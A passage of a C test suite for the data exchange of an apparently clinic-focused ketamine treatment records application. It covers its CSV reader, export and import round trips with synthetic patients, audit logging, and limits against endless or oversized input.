/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Exchange: the CSV reader (quoting, BOM, CRLF, line numbers), the CSV
 * round trip of the demo clinic (export → import into an empty file →
 * export gives the same bytes), every kind of bad row reported with its
 * file and line and nothing written, and the FHIR R4 bundle's codes and
 * values read back with json-glib. Every test uses real SQLite files in its
 * own temporary folder. */

#include "config.h"

#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <string.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <utime.h>

#include "traj-test-db.h"
#include "traj-bulk.h"
#include "traj-csv.h"
#include "traj-demo.h"
#include "traj-error.h"
#include "traj-fhir.h"
#include "traj-rems.h"
#include "traj-store.h"
#include "traj-validate.h"

#define ANCHOR() traj_day_from_ymd (2026, 11, 1)
#define SEED 20261122u

typedef struct {
  char *dir;
} Fixture;

static void
remove_tree (const char *path)
{
  GDir *dir = g_dir_open (path, 0, NULL);
  const char *name;

  if (dir == NULL)
    {
      g_remove (path);
      return;
    }
  while ((name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *child = g_build_filename (path, name, NULL);
      remove_tree (child);
    }
  g_dir_close (dir);
  g_rmdir (path);
}

static void
fixture_setup (Fixture *fx, gconstpointer data)
{
  GError *error = NULL;

  fx->dir = g_dir_make_tmp ("traj-exchange-XXXXXX", &error);
  g_assert_no_error (error);
}

static void
fixture_teardown (Fixture *fx, gconstpointer data)
{
  remove_tree (fx->dir);
  g_free (fx->dir);
}

static char *
path_in (Fixture *fx, const char *name)
{
  return g_build_filename (fx->dir, name, NULL);
}

static TrajStore *
open_store (Fixture *fx, const char *name)
{
  g_autofree char *path = path_in (fx, name);
  GError *error = NULL;
  TrajStore *store = traj_test_open (path, &error);

  g_assert_no_error (error);
  return store;
}

static TrajStore *
demo_store (Fixture *fx, const char *name, guint n)
{
  TrajStore *store = open_store (fx, name);
  g_autofree char *path = path_in (fx, name);
  GError *error = NULL;

  g_assert_true (traj_test_demo (store, path, SEED, n, ANCHOR (), &error));
  g_assert_no_error (error);
  return store;
}

static gint64
count (TrajStore *store, const char *sql)
{
  return traj_test_query_int (traj_store_get_path (store), sql);
}

static char *
read_file (const char *path)
{
  char *text = NULL;
  GError *error = NULL;

  g_assert_true (g_file_get_contents (path, &text, NULL, &error));
  g_assert_no_error (error);
  return text;
}

static void
write_file (const char *path, const char *text)
{
  GError *error = NULL;

  g_assert_true (g_file_set_contents (path, text, -1, &error));
  g_assert_no_error (error);
}

/* ---- the reader -------------------------------------------------------------- */

typedef struct {
  TrajCsvStatus status;
  guint line;
  const char *fields;       /* fields joined with '|' */
} Expect;

static void
check_reader (const char *input, gssize len, const Expect *expect, guint n_expect)
{
  g_autoptr(GInputStream) in = g_memory_input_stream_new_from_data (input, len < 0 ? (gssize) strlen (input) : len, NULL);
  g_autoptr(TrajCsvReader) reader = traj_csv_reader_new (in);

  for (guint k = 0; k <= n_expect; k++)
    {
      const char * const *fields = NULL;
      guint n = 0, line = 0;
      GError *error = NULL;
      TrajCsvStatus status = traj_csv_reader_next (reader, &fields, &n, &line, &error);

      if (k == n_expect)
        {
          g_assert_no_error (error);
          g_assert_cmpint (status, ==, TRAJ_CSV_END);
          break;
        }
      g_assert_cmpint (status, ==, expect[k].status);
      g_assert_cmpuint (line, ==, expect[k].line);
      if (status == TRAJ_CSV_RECORD)
        {
          g_autofree char *joined = g_strjoinv ("|", (char **) fields);
          g_assert_no_error (error);
          g_assert_cmpuint (n, ==, g_strv_length ((char **) fields));
          g_assert_cmpstr (joined, ==, expect[k].fields);
        }
      else
        {
          g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
          g_assert_cmpstr (error->message, ==, expect[k].fields);
          g_clear_error (&error);
        }
    }
}

static void
test_reader_quoting (void)
{
  /* BOM, CRLF, quoted comma, doubled quotes, a quoted CRLF and LF, an empty
   * last field, a blank line, LF and lone-CR line ends, no final newline. */
  const char *input =
    "\xEF\xBB\xBF" "a,b,c\r\n"
    "1,\"x, y\",\"say \"\"hi\"\"\"\r\n"
    "2,\"two\r\nlines\",\"and\nthree\nhere\"\r\n"
    "3,,\r\n"
    "\r\n"
    "4,ü,\"\"\n"
    "5,e,f\r"
    "6,g,h";
  const Expect expect[] = {
    { TRAJ_CSV_RECORD, 1, "a|b|c" },
    { TRAJ_CSV_RECORD, 2, "1|x, y|say \"hi\"" },
    { TRAJ_CSV_RECORD, 3, "2|two\r\nlines|and\nthree\nhere" },
    { TRAJ_CSV_RECORD, 7, "3||" },
    { TRAJ_CSV_RECORD, 9, "4|ü|" },
    { TRAJ_CSV_RECORD, 10, "5|e|f" },
    { TRAJ_CSV_RECORD, 11, "6|g|h" },
  };

  check_reader (input, -1, expect, G_N_ELEMENTS (expect));
}

static void
test_reader_bad_records (void)
{
  /* Bad records are reported at the line they start on and skipped to the
   * end of their line; an unterminated quote runs to the end of the input. */
  const char *input =
    "a,b\n"
    "x\"y,2\n"
    "\"ok\"z,3\n"
    "fine,4\n"
    "bad,\xff\xfe\n"
    "\"open,5\n"
    "never closed\n";
  const Expect expect[] = {
    { TRAJ_CSV_RECORD, 1, "a|b" },
    { TRAJ_CSV_BAD_RECORD, 2, "a quote inside a field that does not start with a quote" },
    { TRAJ_CSV_BAD_RECORD, 3, "text after the closing quote of a field" },
    { TRAJ_CSV_RECORD, 4, "fine|4" },
    { TRAJ_CSV_BAD_RECORD, 5, "field 2 is not valid UTF-8 text" },
    { TRAJ_CSV_BAD_RECORD, 6, "a quoted field is not closed before the end of the file" },
  };

  check_reader (input, -1, expect, G_N_ELEMENTS (expect));
}

/* Attack run: importing /dev/zero never ended (a NUL starts a bad record
 * that is skipped to a line end that never comes), and a 30 MB note went
 * in whole. A record longer than TRAJ_CSV_RECORD_MAX stops the reading at
 * its line; one just under it is read. */
static void
test_reader_record_limit (void)
{
  static const struct { char fill; gboolean quoted; } cases[] = {
    { '\0', FALSE }, { 'x', FALSE }, { 'x', TRUE },
  };

  for (guint k = 0; k < G_N_ELEMENTS (cases); k++)
    {
      gsize n = TRAJ_CSV_RECORD_MAX + 100;
      char *data = g_malloc (n + 16);
      g_autoptr(GInputStream) in = NULL;
      g_autoptr(TrajCsvReader) reader = NULL;
      const char * const *fields;
      guint nf, line = 0;
      GError *error = NULL;

      memcpy (data, "a,b\n", 4);
      memset (data + 4, cases[k].fill, n - 4);
      if (cases[k].quoted)
        data[4] = '"';
      /* No line end at all: the endless line of /dev/zero. */
      in = g_memory_input_stream_new_from_data (data, (gssize) n, g_free);
      reader = traj_csv_reader_new (in);
      g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, &error), ==, TRAJ_CSV_RECORD);
      g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, &error), ==, TRAJ_CSV_FAILED);
      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_TEXT_LONG);
      g_assert_cmpuint (line, ==, 2);
      g_assert_cmpstr (error->message, ==, "the record is longer than 1 MiB, which no Trajectory record is; reading stopped");
      g_clear_error (&error);
      /* It stopped near the limit, not at the end of the input. */
      g_assert_cmpuint (traj_csv_reader_bytes_read (reader), <=, TRAJ_CSV_RECORD_MAX + 65536 + 4);
    }
  {
    /* Just under the limit: read whole. */
    gsize n = TRAJ_CSV_RECORD_MAX - 8;
    char *data = g_malloc (n + 1);
    g_autoptr(GInputStream) in = NULL;
    g_autoptr(TrajCsvReader) reader = NULL;
    const char * const *fields;
    guint nf, line = 0;

    memset (data, 'y', n);
    data[n - 1] = '\n';
    in = g_memory_input_stream_new_from_data (data, (gssize) n, g_free);
    reader = traj_csv_reader_new (in);
    g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, NULL), ==, TRAJ_CSV_RECORD);
    g_assert_cmpuint (strlen (fields[0]), ==, n - 1);
    g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, NULL), ==, TRAJ_CSV_END);
  }
}

/* The same through an import: /dev/zero itself is refused (an import
 * reads its files twice, which only a regular file allows), and a
 * patients.csv whose second line is an endless note fails with file:line;
 * neither writes anything; a note of 20,001 characters is a bad row like
 * any other. */
static void
test_import_too_long (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "long.db");
  g_autofree char *dir = path_in (fx, "long");
  g_autofree char *patients = g_build_filename (dir, "patients.csv", NULL);
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autoptr(GString) text = g_string_new ("uid,mrn,name,birth_date,sex,indication,notes,created_at,updated_at\r\n"
                                          "p-1,M-1,Anna Berg,1980-02-03,female,depression,\"");
  g_autofree char *first = NULL;
  GError *error = NULL;

  if (g_file_test ("/dev/zero", G_FILE_TEST_EXISTS))
    {
      g_assert_false (traj_csv_import (store, "/dev/zero", report, NULL, NULL, NULL, &error));
      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
      g_assert_cmpstr (error->message, ==, "zero is not a regular file: copy it into a file and import that.");
      g_clear_error (&error);
    }

  g_assert_cmpint (g_mkdir (dir, 0700), ==, 0);
  for (guint k = 0; k < TRAJ_TEXT_NOTE_MAX + 1; k++)
    g_string_append_c (text, 'n');
  g_string_append (text, "\",,\r\n");
  write_file (patients, text->str);
  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_clear_error (&error);
  first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
  g_assert_cmpstr (first, ==, "patients.csv:2: Notes: longer than 20000 characters. Shorten it.");

  g_string_truncate (text, text->len - 5);
  while (text->len < TRAJ_CSV_RECORD_MAX + 200)
    g_string_append (text, "nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn");
  write_file (patients, text->str);
  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_TEXT_LONG);
  g_assert_cmpstr (error->message, ==, "patients.csv:2: the record is longer than 1 MiB, which no Trajectory record is; reading stopped");
  g_clear_error (&error);
  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 0);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE action = 'import'"), ==, 0);
}

static void
test_reader_chunks (void)
{
  /* Records straddling the reader's 64 KiB chunks, a CRLF split between two
   * chunks among them, come out whole and on the right lines. */
  GString *s = g_string_new (NULL);
  g_autoptr(GInputStream) in = NULL;
  g_autoptr(TrajCsvReader) reader = NULL;
  const char * const *fields;
  guint n, line, rows = 0;
  TrajCsvStatus status;

  while (s->len < 65536 - 7)
    g_string_append (s, "0123456789,\"ab\"\"c\"\r\n");
  g_string_set_size (s, 65536 - 1);
  g_string_append (s, "\r\n");      /* the CR ends chunk one, the LF starts chunk two */
  for (guint k = 0; k < 5000; k++)
    g_string_append_printf (s, "%u,\"quoted\nnewline\"\r\n", k);
  in = g_memory_input_stream_new_from_data (g_string_free (s, FALSE), -1, g_free);
  reader = traj_csv_reader_new (in);
  while ((status = traj_csv_reader_next (reader, &fields, &n, &line, NULL)) == TRAJ_CSV_RECORD)
    {
      rows++;
      if (n == 2 && g_str_equal (fields[1], "quoted\nnewline"))
        {
          guint k = (guint) g_ascii_strtoull (fields[0], NULL, 10);
          g_assert_cmpuint (line, ==, 65536 / 20 + 1 + 1 + 2 * k);
        }
    }
  g_assert_cmpint (status, ==, TRAJ_CSV_END);
  g_assert_cmpuint (rows, ==, 65536 / 20 + 1 + 5000);
}

/* ---- round trip -------------------------------------------------------------- */

static void
assert_same_files (const char *a, const char *b)
{
  for (guint f = 0; f < TRAJ_CSV_N_FILES; f++)
    {
      g_autofree char *pa = g_build_filename (a, traj_csv_file_name (f), NULL);
      g_autofree char *pb = g_build_filename (b, traj_csv_file_name (f), NULL);
      g_autofree char *ta = read_file (pa);
      g_autofree char *tb = read_file (pb);

      g_assert_cmpuint (strlen (ta), ==, strlen (tb));
      g_assert_cmpstr (ta, ==, tb);
    }
}

static void
record_progress (double fraction, gpointer user_data)
{
  double *last = user_data;

  g_assert_cmpfloat (fraction, >=, *last);
  g_assert_cmpfloat (fraction, <=, 1.0);
  *last = fraction;
}

static void
test_round_trip (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) source = demo_store (fx, "source.db", 40);
  g_autoptr(TrajStore) target = open_store (fx, "target.db");
  g_autofree char *first = path_in (fx, "first");
  g_autofree char *second = path_in (fx, "second");
  g_autofree char *patients_csv = g_build_filename (first, "patients.csv", NULL);
  g_autoptr(TrajCsvReport) out = traj_csv_report_new ();
  g_autoptr(TrajCsvReport) in = traj_csv_report_new ();
  GError *error = NULL;
  double progress = 0;
  GStatBuf st;

  g_assert_true (traj_csv_export (source, first, out, record_progress, &progress, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpfloat (progress, ==, 1.0);
  g_assert_cmpuint (out->rows[TRAJ_CSV_PATIENTS], ==, 40);
  g_assert_cmpuint (out->rows[TRAJ_CSV_INFUSIONS], ==, traj_store_count (source, TRAJ_KIND_INFUSION, NULL));
  g_assert_cmpuint (out->rows[TRAJ_CSV_VITAL_SIGNS], ==, traj_store_count (source, TRAJ_KIND_VITAL_SIGN, NULL));
  g_assert_cmpuint (out->rows[TRAJ_CSV_ASSESSMENTS], ==, traj_store_count (source, TRAJ_KIND_ASSESSMENT, NULL));
  g_assert_cmpuint (out->rows[TRAJ_CSV_FLAG_DECISIONS], >, 0);
  g_assert_cmpuint (out->rows[TRAJ_CSV_MEDICATIONS], ==, count (source, "SELECT count(*) FROM medication"));
  g_assert_cmpuint (out->rows[TRAJ_CSV_MEDICATIONS], >, 0);
  /* Patient data: only the owner may read the files. */
  g_assert_cmpint (g_stat (patients_csv, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  progress = 0;
  g_assert_true (traj_csv_import (target, first, in, record_progress, &progress, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpfloat (progress, ==, 1.0);
  g_assert_cmpuint (in->n_problems, ==, 0);
  g_assert_cmpmem (in->rows, sizeof in->rows, out->rows, sizeof out->rows);

  g_assert_true (traj_csv_export (target, second, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  assert_same_files (first, second);

  /* The database holds the same rows, sources (clinician, tablet) kept. */
  g_assert_cmpint (count (target, "SELECT count(*) FROM assessment_item"), ==,
                   count (source, "SELECT count(*) FROM assessment_item"));
  g_assert_cmpint (count (target, "SELECT count(*) FROM assessment WHERE source = 'tablet'"), ==,
                   count (source, "SELECT count(*) FROM assessment WHERE source = 'tablet'"));
  g_assert_cmpint (count (target, "SELECT count(*) FROM assessment WHERE source = 'tablet'"), >, 0);
  g_assert_cmpint (count (target, "SELECT coalesce (sum (total), 0) FROM assessment"), ==,
                   count (source, "SELECT coalesce (sum (total), 0) FROM assessment"));
  /* CLINICAL.md §8: the medication list, unknown days unknown still. */
  {
    const char *meds[] = {
      "SELECT count(*) FROM medication WHERE class IN ('benzodiazepine', 'lamotrigine')",
      "SELECT count(*) FROM medication WHERE stop_date IS NULL",
      "SELECT sum (length (name) + length (dose)) + count (DISTINCT start_date) FROM medication",
    };

    for (guint k = 0; k < G_N_ELEMENTS (meds); k++)
      {
        g_assert_cmpint (count (source, meds[k]), >, 0);
        g_assert_cmpint (count (target, meds[k]), ==, count (source, meds[k]));
      }
  }
  /* CLINICAL.md §8: the esketamine monitoring answers, unanswered ones
   * staying unanswered. */
  {
    const char *rems[] = {
      "SELECT count(*) FROM infusion WHERE rems_patient_id IS NOT NULL",
      "SELECT count(*) FROM infusion WHERE rems_monitored_by IS NULL AND route = 'intranasal'",
      "SELECT count(*) FROM infusion WHERE rems_vitals_ok_leaving IS NULL AND route = 'intranasal'",
      "SELECT coalesce (sum (rems_first_session + 2 * rems_sedation + 4 * rems_dissociation + "
      "8 * rems_resp_depression + 16 * rems_adverse + 32 * rems_vitals_ok_before), 0) FROM infusion",
      "SELECT count(*) FROM infusion WHERE rems_adverse_note <> ''",
    };

    for (guint k = 0; k < G_N_ELEMENTS (rems); k++)
      {
        g_assert_cmpint (count (source, rems[k]), >, 0);
        g_assert_cmpint (count (target, rems[k]), ==, count (source, rems[k]));
      }
  }
  /* One audit event for the import (besides, on a server, the access
   * log's "read" of the export), then every record it wrote, by uid, 500
   * to an event, and the counts. */
  g_assert_cmpint (count (target, "SELECT count(*) FROM audit_event WHERE action = 'import' AND record_kind = 'clinic'"), ==, 1);
  {
    TrajAuditFilter f = { .action = "import", .from = TRAJ_TIME_NONE, .to = TRAJ_TIME_NONE };
    g_autoptr(GPtrArray) events = traj_store_list_audit_filtered (target, &f, &error);
    gint64 records = count (target, "SELECT (SELECT count(*) FROM patient) + (SELECT count(*) FROM course) + "
                                    "(SELECT count(*) FROM infusion) + (SELECT count(*) FROM vital_sign) + "
                                    "(SELECT count(*) FROM assessment) + (SELECT count(*) FROM flag_decision) + "
                                    "(SELECT count(*) FROM medication)");
    gint64 listed = 0, parts = 0;

    g_assert_no_error (error);
    for (guint k = 0; k < events->len; k++)
      {
        const TrajAuditEvent *e = g_ptr_array_index (events, k);

        gint64 lines = 0;

        if (!g_str_equal (e->record_kind, "records"))
          continue;
        parts++;
        for (const char *c = e->detail; *c; c++)
          lines += *c == '\n';
        g_assert_cmpint (lines, <=, 500);
        listed += lines;
      }
    g_assert_cmpint (listed, ==, records);
    /* At most 500 to a part; on a clinic file each chunk of the writing
     * (traj_bulk_yield ()) lists its own. */
    g_assert_cmpint (parts, >=, (records + 499) / 500);
    if (traj_store_is_server (target))
      g_assert_cmpint (parts, ==, (records + 499) / 500);
    g_assert_cmpint (count (target, "SELECT count(*) FROM audit_event WHERE action NOT IN ('migrate', 'read', 'export')"), ==,
                     parts + 2);
    g_assert_true (traj_store_audit_verify (target, NULL, &error));
    g_assert_no_error (error);
  }
  g_assert_cmpint (count (target, "SELECT count(*) FROM audit_event WHERE action = 'read'"), ==,
                   traj_store_is_server (target) ? 1 : 0);

  /* Importing the same files again doubles nothing: every patient is a
   * duplicate, reported, and nothing is written. */
  g_assert_false (traj_csv_import (target, first, in, NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_cmpuint (in->n_problems, ==, 40);
  g_assert_cmpint (traj_store_count (target, TRAJ_KIND_PATIENT, NULL), ==, 40);
  g_assert_cmpint (count (target, "SELECT count(*) FROM audit_event WHERE action = 'import' AND record_kind = 'clinic'"), ==, 1);
}

/* ---- a small hand-made clinic -------------------------------------------------- */

#define P1 "11111111-1111-4111-8111-111111111111"
#define P2 "22222222-2222-4222-8222-222222222222"
#define C1 "33333333-3333-4333-8333-333333333333"
#define I1 "44444444-4444-4444-8444-444444444444"
/* The esketamine monitoring record's columns (CLINICAL.md §8), and a row's
 * ten empty answers. */
#define REMS_COLUMNS ",rems_first_session,rems_patient_id,rems_monitored_by,rems_vitals_ok_before," \
  "rems_vitals_ok_leaving,rems_sedation,rems_dissociation,rems_resp_depression,rems_adverse,rems_adverse_note"
#define NO_REMS ",,,,,,,,,,"

static const char *small_files[TRAJ_CSV_N_FILES] = {
  [TRAJ_CSV_PATIENTS] =
    "uid,mrn,name,birth_date,sex,indication,notes,created_at,updated_at,indication_detail,risk_si_at,risk_si_by,"
    "substance_use\r\n"
    P1 ",M-1,\"Abbott, Ada\",1980-02-03,female,depression,\"Said \"\"better\"\", slept,\r\nand ate\",2026-01-05T09:00:00Z,2026-01-06T10:00:00Z,"
    "trd,2026-01-05T09:30:00Z,Dr. A,past\r\n"
    P2 ",M-2,Ben Bianchi,1975-07-08,male,chronic_pain,,2026-01-06T09:00:00Z,2026-01-06T09:00:00Z,crps,,,none\r\n",
  [TRAJ_CSV_COURSES] =
    "uid,patient_uid,indication,primary_scale,protocol,induction_length,start_date,end_date,status,notes,"
    "indication_detail\r\n"
    C1 "," P1 ",depression,phq9,IV 0.5 mg/kg ×6,6,2026-01-10,,induction,,trd\r\n",
  [TRAJ_CSV_INFUSIONS] =
    "uid,patient_uid,course_uid,started_at,duration_min,route,medicine,lot,phase,weight_kg,dose_mg_per_kg,total_mg,"
    "side_effects,side_effect_note,concomitant,monitoring_min,ready_at,clinician,notes,date_confirmed,cadss_total,"
    "moaas_lowest" REMS_COLUMNS "\r\n"
    I1 "," P1 "," C1 ",2026-01-10T09:00:00Z,40,iv,ketamine,L1,induction,70.3,0.5,35.15,\"nausea,dissociation\","
    "brief,benzodiazepine,60,2026-01-10T10:40:00Z,Dr. A,,,38,3" NO_REMS "\r\n",
  [TRAJ_CSV_VITAL_SIGNS] =
    "uid,infusion_uid,minute,systolic,diastolic,heart_rate,spo2,resp_rate\r\n"
    "55555555-5555-4555-8555-555555555555," I1 ",0,120,80,72,98,14\r\n"
    "66666666-6666-4666-8666-666666666666," I1 ",40,150,95,,97,\r\n",
  [TRAJ_CSV_ASSESSMENTS] =
    "uid,patient_uid,course_uid,infusion_uid,scale,taken_at,source,timing,complete,total,difficulty,clinician,notes,"
    "item_1,item_2,item_3,item_4,item_5,item_6,item_7,item_8,item_9,item_10,item_11,item_12,item_13,item_14,item_15,"
    "item_16,item_17,item_18,item_19,item_20,safety_highest\r\n"
    "77777777-7777-4777-8777-777777777777," P1 "," C1 "," I1 ",phq9,2026-01-10T08:30:00Z,tablet,pre,true,15,2,,,"
    "2,2,2,2,2,2,2,1,0,,,,,,,,,,,,2\r\n"
    "88888888-8888-4888-8888-888888888888," P1 ",,,gad7,2026-01-11T08:30:00Z,clinician,between,false,,,,,"
    "1,1,,,,,,,,,,,,,,,,,,,\r\n"
    "99999999-9999-4999-8999-999999999999," P1 "," C1 ",,madrs,2026-01-12T08:30:00Z,clinician,between,true,28,,Dr. B,,"
    ",,,,,,,,,,,,,,,,,,,,\r\n",
  [TRAJ_CSV_FLAG_DECISIONS] =
    "uid,patient_uid,course_uid,kind,finding_key,fired_at,decision,note,decided_by,decided_at\r\n"
    "aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa," P1 ",,safety,safety:77777777-7777-4777-8777-777777777777,"
    "2026-01-10T08:30:00Z,acknowledged,Talked,Dr. A,2026-01-10T09:00:00Z\r\n",
  [TRAJ_CSV_MEDICATIONS] =
    "uid,patient_uid,name,class,dose,start_date,stop_date\r\n"
    "cccccccc-cccc-4ccc-8ccc-cccccccccccc," P1 ",Lorazepam,benzodiazepine,1 mg at night,,\r\n"
    "dddddddd-dddd-4ddd-8ddd-dddddddddddd," P1 ",Lamotrigine,lamotrigine,100 mg,2024-05-01,2026-01-09\r\n",
};

/* Writes the small clinic into @dir, with @from replaced by @to in @file. */
static void
write_small (const char *dir, TrajCsvFile file, const char *from, const char *to)
{
  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  for (guint f = 0; f < TRAJ_CSV_N_FILES; f++)
    {
      g_autofree char *path = g_build_filename (dir, traj_csv_file_name (f), NULL);
      GString *text = g_string_new (small_files[f]);

      if (from && f == file)
        g_assert_cmpuint (g_string_replace (text, from, to, 1), ==, 1);
      write_file (path, text->str);
      g_string_free (text, TRUE);
    }
}

static void
test_small_import (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "small.db");
  g_autofree char *dir = path_in (fx, "small");
  g_autofree char *again = path_in (fx, "again");
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autoptr(TrajPatient) p = NULL;
  g_autoptr(TrajPatientRecords) r = NULL;
  const TrajInfusion *i;
  const TrajAssessment *a;
  GError *error = NULL;

  write_small (dir, 0, NULL, NULL);
  g_assert_true (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (traj_csv_report_total_rows (report), ==, 12);
  g_assert_cmpuint (report->rows[TRAJ_CSV_MEDICATIONS], ==, 2);

  p = traj_store_find_patient_by_mrn (store, "M-1", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (p->uid, ==, P1);
  g_assert_cmpstr (p->name, ==, "Abbott, Ada");
  g_assert_cmpstr (p->notes, ==, "Said \"better\", slept,\r\nand ate");
  g_assert_cmpint (p->created_at, ==, traj_time_from_iso ("2026-01-05T09:00:00Z", NULL));
  g_assert_cmpint (p->updated_at, ==, traj_time_from_iso ("2026-01-06T10:00:00Z", NULL));
  g_assert_cmpstr (p->indication_detail, ==, "trd");
  g_assert_cmpint (p->risk_si_at, ==, traj_time_from_iso ("2026-01-05T09:30:00Z", NULL));
  g_assert_cmpstr (p->risk_si_by, ==, "Dr. A");
  g_assert_cmpint (p->substance_use, ==, TRAJ_SUBSTANCE_USE_PAST);
  {
    g_autoptr(TrajPatient) p2 = traj_store_find_patient_by_mrn (store, "M-2", &error);
    g_assert_no_error (error);
    g_assert_cmpint (p2->substance_use, ==, TRAJ_SUBSTANCE_USE_NONE);
  }

  r = traj_store_load_patient_records (store, p->id, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (((TrajCourse *) g_ptr_array_index (r->courses, 0))->indication_detail, ==, "trd");
  g_assert_cmpuint (r->infusions->len, ==, 1);
  i = g_ptr_array_index (r->infusions, 0);
  g_assert_cmpfloat (i->weight_kg, ==, 70.3);
  g_assert_cmpfloat (i->total_mg, ==, 35.15);
  g_assert_cmpuint (i->side_effects, ==, TRAJ_SIDE_NAUSEA | TRAJ_SIDE_DISSOCIATION);
  g_assert_cmpuint (i->concomitant, ==, TRAJ_CONCOMITANT_BENZODIAZEPINE);
  g_assert_cmpint (i->cadss_total, ==, 38);
  g_assert_cmpint (i->moaas_lowest, ==, 3);
  g_assert_cmpuint (i->vitals->len, ==, 2);
  g_assert_cmpint (((TrajVitalSign *) g_ptr_array_index (i->vitals, 1))->heart_rate, ==, -1);
  g_assert_cmpuint (r->assessments->len, ==, 3);
  a = g_ptr_array_index (r->assessments, 0);
  g_assert_true (a->complete);
  g_assert_cmpint (a->total, ==, 15);
  g_assert_cmpint (a->source, ==, TRAJ_SOURCE_TABLET);
  g_assert_cmpint (a->infusion_id, ==, i->id);
  a = g_ptr_array_index (r->assessments, 1);
  g_assert_false (a->complete);
  g_assert_cmpint (a->items[0], ==, 1);
  g_assert_cmpint (a->items[2], ==, -1);
  a = g_ptr_array_index (r->assessments, 2);
  g_assert_cmpint (a->scale, ==, TRAJ_SCALE_MADRS);
  g_assert_cmpint (a->total, ==, 28);
  g_assert_cmpuint (r->decisions->len, ==, 1);
  /* CLINICAL.md §8: the medication list, unknown start and open stop kept
   * as such (the lamotrigine stopped the day before the course started). */
  g_assert_cmpuint (r->medications->len, ==, 2);
  {
    const TrajMedication *m = g_ptr_array_index (r->medications, 0);

    g_assert_cmpstr (m->name, ==, "Lorazepam");
    g_assert_cmpint (m->klass, ==, TRAJ_MED_CLASS_BENZODIAZEPINE);
    g_assert_cmpstr (m->dose, ==, "1 mg at night");
    g_assert_cmpint (m->start_day, ==, TRAJ_DAY_NONE);
    g_assert_cmpint (m->stop_day, ==, TRAJ_DAY_NONE);
    m = g_ptr_array_index (r->medications, 1);
    g_assert_cmpint (m->klass, ==, TRAJ_MED_CLASS_LAMOTRIGINE);
    g_assert_cmpint (m->start_day, ==, traj_day_from_ymd (2024, 5, 1));
    g_assert_cmpint (m->stop_day, ==, traj_day_from_ymd (2026, 1, 9));
  }

  /* Exporting gives back the very bytes that were imported. */
  g_assert_true (traj_csv_export (store, again, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  assert_same_files (dir, again);
}

static void
test_bom_lf_and_single_file (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "bom.db");
  g_autofree char *dir = path_in (fx, "bom");
  g_autofree char *renamed = path_in (fx, "people.csv");
  g_autofree char *courses = NULL;
  g_autoptr(TrajPatient) p = NULL;
  GError *error = NULL;

  /* Patients alone, as a spreadsheet would save them: BOM, LF line ends,
   * under a name of its own (recognised by its header). */
  {
    g_autoptr(GString) text = g_string_new ("\xEF\xBB\xBF");
    g_string_append (text, small_files[TRAJ_CSV_PATIENTS]);
    g_string_replace (text, "\r\n", "\n", 0);
    write_file (renamed, text->str);
  }
  g_assert_true (traj_csv_import (store, renamed, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  p = traj_store_find_patient_by_mrn (store, "M-1", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (p->notes, ==, "Said \"better\", slept,\nand ate");

  /* A file that is not ours says so. */
  {
    g_autofree char *empty = path_in (fx, "empty.csv");
    g_autofree char *other = path_in (fx, "other.csv");
    g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
    g_autofree char *first = NULL;

    write_file (empty, "");
    g_assert_false (traj_csv_import (store, empty, report, NULL, NULL, NULL, &error));
    g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
    g_clear_error (&error);
    first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
    g_assert_cmpstr (first, ==, "empty.csv: the file is empty (not even a header)");
    g_clear_pointer (&first, g_free);

    write_file (other, "id,value\r\n1,2\r\n");
    g_assert_false (traj_csv_import (store, other, report, NULL, NULL, NULL, &error));
    g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
    g_clear_error (&error);
    first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
    g_assert_true (g_str_has_prefix (first, "other.csv:1: the header does not match"));
  }

  /* A later file may name patients already in the clinic. */
  write_small (dir, 0, NULL, NULL);
  courses = g_build_filename (dir, "courses.csv", NULL);
  g_assert_true (traj_csv_import (store, courses, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
